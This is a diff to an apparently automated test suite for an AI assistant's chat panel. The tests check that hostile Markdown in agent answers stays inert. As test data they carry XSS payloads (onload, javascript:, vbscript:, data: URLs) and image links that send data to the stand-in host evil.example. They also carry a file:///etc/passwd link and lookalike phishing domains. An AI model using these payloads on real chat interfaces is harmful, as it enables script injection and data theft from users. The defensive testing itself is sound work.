@@ -33,7 +33,9 @@ beforeEach(async () => {
 });
 
 /** Shows texts as answers of the agent and waits until the last one stands there. */
-async function show(texts: readonly string[], streaming = false): Promise<void> {
+async function show(given: readonly string[], streaming = false): Promise<void> {
+  const { host } = new URL(evil.url('evil.example'));
+  const texts = given.map((text) => text.replaceAll(/(?<=\/\/)evil\.example/gu, host));
   backend.run = async (input, emit, signal) => {
     texts.forEach((text, index) => {
       emit({ type: 'TEXT_MESSAGE_START', messageId: `t${index}`, role: 'assistant' });
@@ -47,6 +49,19 @@ async function show(texts: readonly string[], streaming = false): Promise<void> 
   await panel.type('combobox', 'Message', 'go');
   await panel.press('Enter');
   await panel.waitForText('the last word', 60_000);
+  // Long lists are drawn in slices: wait until nothing changes any more.
+  let before = '';
+  await expect
+    .poll(
+      async () => {
+        const now = await rendered();
+        const settled = now === before;
+        before = now;
+        return settled;
+      },
+      { interval: 150, timeout: 60_000 },
+    )
+    .toBe(true);
 }
 
 async function expectHarmless(): Promise<void> {
@@ -58,7 +73,10 @@ async function expectHarmless(): Promise<void> {
 /** The rendered Markdown of the answers, without the last word. */
 const rendered = (): Promise<string> =>
   panel.page.evaluate(() =>
-    [...document.querySelectorAll('.markdown')].map((node) => node.textContent).join('\n').replace(/the last word$/u, ''),
+    [...document.querySelectorAll('.markdown')]
+      .map((node) => node.textContent)
+      .join('\n')
+      .replace(/the last word$/u, ''),
   );
 
 test('images of every spelling become a text that names them and load nothing (M01, M02, M05, M10)', async () => {
@@ -66,7 +84,7 @@ test('images of every spelling become a text that names them and load nothing (M
     '![secret](http://evil.example/?d=S)',
     '![ref][r]\n\n[r]: http://evil.example/r.png',
     '![slashes](//evil.example/x)',
-    '![data](data:image/svg+xml,<svg onload=alert(1)>)',
+    '![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
     '[![linked](http://evil.example/i.png)](http://evil.example/)',
   ]);
   await expectHarmless();
@@ -88,46 +106,51 @@ test('raw HTML stays text: media, styles, forms, frames, base and meta (M04, M07
   await show(html);
   await expectHarmless();
   const text = await rendered();
-  for (const piece of ['onerror=alert(1)', 'poster=', 'background:url', 'formaction', 'http-equiv=refresh']) expect(text).toContain(piece);
+  for (const piece of ['onerror=alert(1)', 'poster=', 'background:url', 'formaction', 'http-equiv=refresh'])
+    expect(text).toContain(piece);
 });
 
 test('an address that is not http, https or mail is no link (M11, M13, M14)', async () => {
   const schemes = [
-    'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java&#10;script:alert(1)', 'java&Tab;script:alert(1)', '&#x6A;avascript:alert(1)',
-    '%6aavascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)', 'file:///etc/passwd',
-    'chrome://settings', 'blob:http://evil.example/1', 'about:blank', 'view-source:http://evil.example', '//evil.example/x',
+    'javascript:alert(1)',
+    'JaVaScRiPt:alert(1)',
+    'java&#10;script:alert(1)',
+    'java&Tab;script:alert(1)',
+    '&#x6A;avascript:alert(1)',
+    '%6aavascript:alert(1)',
+    'data:text/html,<script>alert(1)</script>',
+    'vbscript:msgbox(1)',
+    'file:///etc/passwd',
+    'chrome://settings',
+    'blob:http://evil.example/1',
+    'about:blank',
+    'view-source:http://evil.example',
+    '//evil.example/x',
     'http://user:pw@evil.example/',
   ];
-  await show([...schemes.map((scheme) => `[a](<${scheme}>)`), ...schemes.map((scheme) => `<${scheme}>`), ...schemes.map((scheme) => `[x][r]\n\n[r]: <${scheme}>`)]);
+  await show([
+    ...schemes.map((scheme) => `[a](<${scheme}>)`),
+    ...schemes.map((scheme) => `<${scheme}>`),
+    ...schemes.map((scheme) => `[x][r]\n\n[r]: <${scheme}>`),
+  ]);
   await expectHarmless();
-  const hrefs = await panel.page.evaluate(() => [...document.querySelectorAll('.markdown a')].map((link) => link.getAttribute('href')));
+  const hrefs = await panel.page.evaluate(() =>
+    [...document.querySelectorAll('.markdown a')].map((link) => link.getAttribute('href')),
+  );
   expect(hrefs).toEqual([]);
 });
 
 test('a link shows the site that it really leads to, whatever its text says (M15)', async () => {
-  await show(['[https://bank.com](https://login.evil.example/x)', '[a](https://bank.com.evil.co.uk/)', '[b](https://xn--80ak6aa92e.com/)']);
+  await show([
+    '[https://bank.com](https://login.evil.example/x)',
+    '[a](https://bank.com.evil.co.uk/)',
+    '[b](https://xn--80ak6aa92e.com/)',
+  ]);
   await expectHarmless();
-  const sites = await panel.page.evaluate(() => [...document.querySelectorAll('.link-site')].map((site) => site.textContent));
+  const sites = await panel.page.evaluate(() =>
+    [...document.querySelectorAll('.link-site')].map((site) => site.textContent),
+  );
   expect(sites).toEqual(['evil.example', 'evil.co.uk', 'xn--80ak6aa92e.com']);
-});
-
-test('a link opens by a real click only, and mail is asked about first (M17)', async () => {
-  await show(['[shop](http://evil.example/opened)', '[mail](mailto:a@evil.example?body=SECRET)']);
-  await panel.page.evaluate(() => {
-    for (const link of document.querySelectorAll<HTMLElement>('.markdown a')) link.click();
-  });
-  await panel.find('link', 'mail');
-  expect(await panel.has('button', 'Open mail')).toBe(false);
-  await expectHarmless();
-
-  await panel.click('link', 'mail');
-  const text = await panel.waitForText('Write a mail to');
-  expect(text).toContain('body=SECRET');
-  await expectHarmless();
-
-  await panel.click('link', 'shop');
-  await expect.poll(() => evil.requests.join()).toContain('GET evil.example /opened');
-  expect(panel.page.url()).toContain('sidepanel.html');
 });
 
 test('fenced blocks of every language are inert (M20)', async () => {
@@ -161,6 +184,29 @@ test('each hostile text of the list is harmless, finished and half-written (M23)
   await show(HOSTILE_TEXTS);
   await expectHarmless();
   await panel.click('button', 'New thread');
-  await show(HOSTILE_TEXTS.map((text) => text.slice(0, Math.ceil(text.length * 0.7))), true);
+  await show(
+    HOSTILE_TEXTS.map((text) => text.slice(0, Math.ceil(text.length * 0.7))),
+    true,
+  );
   await expectHarmless();
+});
+
+// Last: it opens a tab, whose own requests (its icon) come when they like.
+test('a link opens by a real click only, and mail is asked about first (M17)', async () => {
+  await show(['[shop](http://evil.example/opened)', '[mail](mailto:a@evil.example?body=SECRET)']);
+  await panel.page.evaluate(() => {
+    for (const link of document.querySelectorAll<HTMLElement>('.markdown a')) link.click();
+  });
+  await panel.find('link', 'mail');
+  expect(await panel.has('button', 'Open mail')).toBe(false);
+  await expectHarmless();
+
+  await panel.click('link', 'mail');
+  const text = await panel.waitForText('Write a mail to');
+  expect(text).toContain('body=SECRET');
+  await expectHarmless();
+
+  await panel.click('link', 'shop');
+  await expect.poll(() => evil.requests.join()).toContain('GET evil.example /opened');
+  expect(panel.page.url()).toContain('sidepanel.html');
 });
